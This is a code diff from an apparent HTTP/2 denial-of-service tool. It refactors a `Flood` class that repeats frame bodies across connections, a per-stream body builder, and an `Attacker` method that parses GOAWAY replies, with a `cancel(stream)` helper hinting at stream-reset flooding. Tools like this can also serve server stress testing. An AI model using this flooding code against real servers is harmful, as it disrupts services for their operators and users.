@@ -78,8 +78,8 @@ def window(stream, count):
 
 
 class Flood:
-    """One attack: `opening` once per connection, then `body`, `frames` frames long. A body whose stream identifiers
-    cannot come again ends its connection; any other is sent again."""
+    """One attack: `opening` once per connection, then `body`, `frames` frames long. A body whose streams cannot come
+    again is sent once per connection, any other again and again."""
 
     def __init__(self, opening, body, frames, *, again=True, reads=True, settings=b"", connections=1):
         self.opening, self.body, self.frames = opening, body, frames
@@ -93,7 +93,8 @@ def repeated(one, dose, opening=b"", **options):
 def per_stream(make, dose, frames_of_one, **options):
     """`make(stream)` for as many streams as the dose allows."""
     count = max(1, dose // frames_of_one)
-    return Flood(b"", b"".join(make(stream) for stream in streams(count)), count * frames_of_one, again=False, **options)
+    body = b"".join(make(stream) for stream in streams(count))
+    return Flood(b"", body, count * frames_of_one, again=False, **options)
 
 
 def cancel(stream):
@@ -274,8 +275,10 @@ class Attacker:
             pass
 
     def scan(self, received):
-        for found in re.finditer(rb"\x00\x00.\x07\x00\x00\x00\x00\x00....\x00\x00\x00(.)([a-z_A-Z :]*)", received, re.S):
-            self.goaways.add(f"{found[1][0]} {found[2].decode()}".strip())
+        pattern = rb"\x00\x00(.)\x07\x00\x00\x00\x00\x00....\x00\x00\x00([\x00-\x0d])([a-z_A-Z :]*)"
+        for found in re.finditer(pattern, received, re.S):
+            if found[1][0] == 8 + len(found[3]):
+                self.goaways.add(f"{found[2][0]} {found[3].decode()}".strip())
         return received[-64:]
 
     def hold(self, end):
